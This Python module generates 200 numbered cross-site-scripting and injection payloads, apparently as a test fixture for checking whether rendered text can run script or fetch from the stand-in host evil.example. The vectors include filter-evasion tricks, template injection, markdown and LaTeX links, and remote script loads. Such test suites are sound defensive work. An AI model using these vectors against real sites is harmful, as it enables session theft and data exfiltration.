"""Two hundred pieces of hostile text: what a paper, a file's name or a question may hold to run or fetch something.

Each names itself by its number, so that what got through is known: by a call of `hit`, by a request, or by a title.
"""

from __future__ import annotations

from collections.abc import Iterator

#: A machine that nobody reaches: a request for it is a payload that got through.
EVIL = "evil.example"
#: Ways of running or fetching something, in which {n} is the payload's number and {js} a call that tells of it.
_SHAPES = (
    "<script>{js}</script>",
    "<ScRiPt >{js}</sCrIpT>",
    "<script src=//{evil}/{n}.js></script>",
    "</script><script>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<img src=x onerror={js}>",
    '<img src="http://{evil}/{n}.png">',
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    "`><img src=x onerror={js}>",
    "<img srcset='http://{evil}/{n}.png 1x'>",
    "<img src=x onerror&#61;{js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><image href=http://{evil}/{n}.svg></svg>",
    "<svg><use href='http://{evil}/{n}.svg#x'></use></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    "<iframe src='javascript:{js}'></iframe>",
    "<iframe src=http://{evil}/{n}></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<object data=http://{evil}/{n}></object>",
    "<embed src=http://{evil}/{n}>",
    "<video src=http://{evil}/{n}.mp4 onerror={js} autoplay></video>",
    "<audio src=http://{evil}/{n}.mp3 autoplay></audio>",
    "<source srcset=http://{evil}/{n}>",
    "<link rel=stylesheet href=http://{evil}/{n}.css>",
    "<link rel=prefetch href=http://{evil}/{n}>",
    "<base href=http://{evil}/{n}/>",
    "<meta http-equiv=refresh content='0;url=http://{evil}/{n}'>",
    "<style>@import 'http://{evil}/{n}.css';</style>",
    "<style>body{{background:url(http://{evil}/{n}.png)}}</style>",
    "<p style='background:url(http://{evil}/{n}.png)'>x</p>",
    "<style>*{{display:none}}</style> {n}",
    "<form action=http://{evil}/{n}><button autofocus>x</button></form>",
    "<form><input onfocus={js} autofocus></form>",
    "<input type=image src=http://{evil}/{n}.png>",
    "<button onclick={js}>x</button>",
    "<details open ontoggle={js}>x</details>",
    "<body onload={js}>",
    "<a href='javascript:{js}'>x</a>",
    "<a href=http://{evil}/{n} ping=http://{evil}/{n}>x</a>",
    "<marquee onstart={js}>x</marquee>",
    "<x onpointerenter={js} style='position:fixed;inset:0'>x</x>",
    "<template><img src=x onerror={js}></template>",
    "<dialog open onclose={js}>x</dialog>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<select autofocus onfocus={js}></select>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "&lt;img src=x onerror={js}&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
    "\\u003cimg src=x onerror={js}\\u003e",
    "%3Cscript%3E{js}%3C/script%3E",
    "![x](http://{evil}/{n}.png)",
    "[x](javascript:{js})",
    "[x](http://{evil}/{n})",
    "![x](data:text/html,<script>{js}</script>)",
    "[x]: http://{evil}/{n} '<script>{js}</script>'",
    "<http://{evil}/{n}>",
    "# h\n```html\n<script>{js}</script>\n```",
    "| a | <img src=x onerror={js}> |",
    "$$\\href{{javascript:{js}}}{{x}}$$",
    "\\(\\includegraphics{{http://{evil}/{n}.png}}\\)",
    "${{{js}}}",
    "${{{{{js}}}}}",
    "{{{{{js}}}}}",
    "{{{{#with this}}}}{{{{{{lookup this 'constructor'}}}}}}{{{{/with}}}} {n}",
    "{{% raw %}}{{{{{js}}}}}",
    "<%= {js} %>",
    "#{{{js}}}",
    "@children {n}",
    "${{value}} {n}",
    "${{element.ownerDocument.defaultView.{js}}}",
    "data-turn=1 data-row=citations data-number={n}",
    "' onmouseover={js} x='",
    '" onmouseover={js} x="',
    '" autofocus onfocus={js} tabindex=1 x="',
    "'-{js}-'",
    "');{js};('",
    "\u202e<script>{js}</script>\u202c {n}",
    "\u2066\u202e gpj.exe {n}\u2069",
    "\u200b<\u200bscript>{js}</script>",
    "\ufeff<script>{js}</script>",
    "<script>{js}//\u2028",
    "<img\u00a0src=x onerror={js}>",
    "<img\tsrc=x\tonerror={js}>",
    "<img/src=x/onerror={js}>",
    "<a\x0bhref=javascript:{js}>x</a>",
    "＜script＞{js}＜/script＞",
    "<ſcript>{js}</ſcript>",
    "<script>{js}",
    "<img src=x onerror='{js}",
    "{n} <style",
    "{n} <!--",
    "<plaintext>{n}",
    "<xmp>{n}",
    "]]>{n}",
    "javascript:{js}",
)
#: How a payload calls home: in the page that shows it, in the one around it, or by way of the network.
_CALLS = ("hit({n})", "window['hit']({n})")


def payloads() -> Iterator[str]:
    """Yield two hundred payloads, each shape with each way of calling."""
    number = 0
    for call in _CALLS:
        for shape in _SHAPES:
            yield shape.format(n=number, js=call.format(n=number), evil=EVIL)
            number += 1


PAYLOADS = tuple(payloads())
assert len(PAYLOADS) == len(set(PAYLOADS)) == 200, len(PAYLOADS)
